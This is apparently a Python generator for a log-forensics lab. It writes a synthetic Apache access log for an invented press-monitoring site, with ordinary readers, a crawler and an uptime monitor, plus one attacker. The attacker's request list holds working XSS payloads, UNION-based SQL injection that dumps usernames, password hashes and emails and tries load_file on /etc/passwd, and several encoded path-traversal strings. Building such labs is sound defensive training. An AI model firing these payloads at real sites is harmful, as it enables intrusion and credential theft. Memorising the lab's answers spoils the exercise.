#!/usr/bin/env python3
"""Writes data/access.log for the lab logs/sqli-xss-traversal.

One evening (9 October 2024, +0200) of the Apache access log, in combined format, of
www.presswatch.example, the site of a small press-freedom monitoring group: readers, a search-engine
crawler, an uptime monitor, a reader who searches for "trade union" (a decoy for `grep -i union`),
and one client that tries SQL injection, cross-site scripting and path traversal, some payloads
URL-encoded (%27, %3Cscript%3E, %2e%2e%2f) and some sent raw, which Apache writes escaped (`\\"`,
`\\x09`). One UNION SELECT dumps the users table: a 200 far larger than any other response.

Everything is invented: addresses come from the documentation ranges and names from .example.

Python 3 standard library only, fixed seed: the output is byte-for-byte the same on every run.
    python3 tools/make_access_log.py            # writes data/access.log next to tools/
    python3 tools/make_access_log.py --stdout   # prints it
If the output changes, update the sha256 in lab.yaml (sha256sum data/access.log) and the answers.
"""
import datetime as dt
import pathlib
import random
import sys

SEED = 20241009
ZONE = dt.timezone(dt.timedelta(hours=2))
DAY = dt.datetime(2024, 10, 9, 0, 0, 0, tzinfo=ZONE)
SITE = "https://www.presswatch.example"

ATTACKER = "203.0.113.77"
ATTACKER_AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
CRAWLER = "192.0.2.15"
MONITOR = "198.51.100.9"
UNION_READER = "198.51.100.140"

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.6668.81 Mobile Safari/537.36",
]
CRAWLER_AGENT = "Mozilla/5.0 (compatible; Examplebot/2.1; +https://search.example/bot.html)"
MONITOR_AGENT = "Uptime-Check/1.3 (+https://status.example.net)"

PAGES = [("/", 41230), ("/about.php", 18544), ("/reports.php", 29310), ("/contact.php", 12077),
         ("/article.php?id=12", 43118), ("/article.php?id=15", 39802), ("/article.php?id=17", 45561),
         ("/article.php?id=21", 40217), ("/download.php?file=annual-report-2023.pdf", 1893305)]
SEARCHES = ["journalists", "detention", "press+freedom", "internet+shutdown", "report+2024", "radio"]
ASSETS = [("/css/site.css", 21408), ("/js/site.js", 9311), ("/img/logo.png", 14020)]

# The attacker's story: (seconds after the previous request, target, status, size, kind).
# kind: None (ordinary), "xss", "sqli", "traversal".
ATTACK = [
    (0, "/", 200, 41230, None),
    (7, "/article.php?id=12", 200, 43118, None),
    (11, "/search.php?q=journalists", 200, 22410, None),
    (124, "/search.php?q=%3Cscript%3Ealert(1)%3C/script%3E", 200, 21807, "xss"),
    (6, '/search.php?q="><script>alert(document.cookie)</script>', 200, 21833, "xss"),
    (5, "/search.php?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", 200, 21829, "xss"),
    (9, "/search.php?q=<svg/onload=alert(1)>", 200, 21816, "xss"),
    (8, "/search.php?q=\xef\xbc\x9cscript\xef\xbc\x9ealert(1)\xef\xbc\x9c/script\xef\xbc\x9e", 200, 21840, "xss"),
    (31, "/article.php?id=12%27%20OR%201=1--%20-", 500, 611, "sqli"),
    (4, "/article.php?id=12%27%20OR%20%271%27=%271", 500, 611, "sqli"),
    (6, "/article.php?id=12%20OR%201=1", 200, 43118, "sqli"),
    (5, "/search.php?q=%27+or+1%3D1--+-", 500, 611, "sqli"),
    (12, "/article.php?id=-1%20UNION%20SELECT%201,2,3--%20-", 500, 611, "sqli"),
    (3, "/article.php?id=-1%20UNION%20SELECT%201,2,3,4--%20-", 500, 611, "sqli"),
    (4, "/article.php?id=-1%20UNION%20SELECT%201,2,3,4,5--%20-", 200, 3921, "sqli"),
    (14, "/article.php?id=-1%20UNION%20SELECT%201,version(),database(),4,5--%20-", 200, 3958, "sqli"),
    (20, "/article.php?id=-1+union+select+1,group_concat(table_name),3,4,5+from+information_schema.tables+where+table_schema=database()--+-", 200, 4012, "sqli"),
    (17, "/article.php?id=-1\x09UNION\x09SELECT\x091,group_concat(column_name),3,4,5\x09FROM\x09information_schema.columns\x09WHERE\x09table_name=0x7573657273--\x09-", 200, 4066, "sqli"),
    (9, "/article.php?id=-1/**/UnIoN/**/SeLeCt/**/1,group_concat(username,0x3a,password_hash,0x3a,email),3,4,5/**/FROM/**/users--/**/-", 200, 187442, "sqli"),
    (25, "/article.php?id=-1%20UNION%20SELECT%201,load_file(%27/etc/passwd%27),3,4,5--%20-", 500, 611, "sqli"),
    (38, "/download.php?file=../../etc/passwd", 404, 1240, "traversal"),
    (3, "/download.php?file=../../../../etc/passwd", 404, 1240, "traversal"),
    (4, "/download.php?file=..%2f..%2f..%2f..%2fetc%2fpasswd", 404, 1240, "traversal"),
    (5, "/download.php?file=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", 404, 1240, "traversal"),
    (4, "/download.php?file=....//....//....//....//etc/passwd", 404, 1240, "traversal"),
    (6, "/download.php?file=..%252f..%252f..%252f..%252fetc%252fpasswd", 404, 1240, "traversal"),
    (5, "/download.php?file=/etc/passwd%00.pdf", 400, 226, "traversal"),
    (3, "/download.php?file=..\\..\\..\\..\\etc\\passwd", 404, 1240, "traversal"),
]


def apache_escape(target):
    """What mod_log_config writes for a raw request line: \\" for ", \\\\ for \\, \\xhh for others."""
    out = []
    for byte in target.encode("latin-1"):
        if byte == 0x22:
            out.append('\\"')
        elif byte == 0x5C:
            out.append("\\\\")
        elif byte < 0x20 or byte > 0x7E:
            out.append("\\x%02x" % byte)
        else:
            out.append(chr(byte))
    return "".join(out)


class Log:
    def __init__(self):
        self.lines = []

    def add(self, when, ip, method, target, status, size, referer="-", agent="-"):
        stamp = when.strftime("%d/%b/%Y:%H:%M:%S %z")
        size_text = "-" if size in (0, None) else str(size)
        text = f'{ip} - - [{stamp}] "{method} {apache_escape(target)} HTTP/1.1" {status} {size_text} "{referer}" "{agent}"'
        self.lines.append((when, len(self.lines), text))

    def render(self):
        return "".join(text + "\n" for _, _, text in sorted(self.lines))


def at(rng, start_hour, end_hour):
    return DAY + dt.timedelta(seconds=rng.randrange(int(start_hour * 3600), int(end_hour * 3600)))


def readers(rng, log):
    taken = {ATTACKER, CRAWLER, MONITOR, UNION_READER}
    ips = []
    while len(ips) < 90:
        net = rng.choice(["192.0.2", "198.51.100", "203.0.113"])
        ip = f"{net}.{rng.randrange(2, 254)}"
        if ip not in taken:
            taken.add(ip)
            ips.append(ip)
    for ip in ips:
        agent = rng.choice(BROWSERS)
        when = at(rng, 17, 23.9)
        referer = rng.choice(["-", "-", "https://search.example/", "https://social.example/"])
        for _ in range(rng.choice([1, 2, 3, 4])):
            if rng.random() < 0.2:
                page, size = "/search.php?q=" + rng.choice(SEARCHES), 22000 + rng.randrange(3000)
            else:
                page, size = rng.choice(PAGES)
                size += 0 if page.startswith("/download") else rng.randrange(-500, 500)
            log.add(when, ip, "GET", page, 200, size, referer, agent)
            for asset, asset_size in ASSETS:
                when += dt.timedelta(seconds=rng.choice([0, 1]))
                log.add(when, ip, "GET", asset, 200, asset_size, SITE + page, agent)
            referer = SITE + page
            when += dt.timedelta(seconds=rng.randrange(20, 300))


def crawler(rng, log):
    for _ in range(260):
        page, size = rng.choice(PAGES + [("/robots.txt", 88), ("/sitemap.xml", 2210)])
        log.add(at(rng, 17, 23.9), CRAWLER, "GET", page, 200, size, "-", CRAWLER_AGENT)


def monitor(rng, log):
    for minute in range(17 * 60, 24 * 60, 2):
        when = DAY + dt.timedelta(minutes=minute, seconds=rng.randrange(0, 3))
        log.add(when, MONITOR, "GET", "/", 200, 41230, "-", MONITOR_AGENT)


def union_reader(rng, log):
    when = DAY + dt.timedelta(hours=19, minutes=3, seconds=18)
    agent = BROWSERS[1]
    log.add(when, UNION_READER, "GET", "/search.php?q=trade+union+rights", 200, 23977, SITE + "/", agent)
    when += dt.timedelta(seconds=41)
    log.add(when, UNION_READER, "GET", "/article.php?id=17", 200, 45561, SITE + "/search.php?q=trade+union+rights", agent)


def attack(log):
    when = DAY + dt.timedelta(hours=22, minutes=11, seconds=52)
    counts = {}
    for delay, target, status, size, kind in ATTACK:
        when += dt.timedelta(seconds=delay)
        log.add(when, ATTACKER, "GET", target, status, size, "-", ATTACKER_AGENT)
        counts[kind] = counts.get(kind, 0) + 1
    return counts


def main():
    rng = random.Random(SEED)
    log = Log()
    readers(rng, log)
    crawler(rng, log)
    monitor(rng, log)
    union_reader(rng, log)
    counts = attack(log)
    text = log.render()
    if "--stdout" in sys.argv[1:]:
        sys.stdout.write(text)
    else:
        out = pathlib.Path(__file__).resolve().parent.parent / "data" / "access.log"
        out.write_text(text, encoding="ascii", newline="\n")
        print(f"wrote {out}: {len(log.lines)} lines; attacker requests by kind: {counts}", file=sys.stderr)


if __name__ == "__main__":
    main()
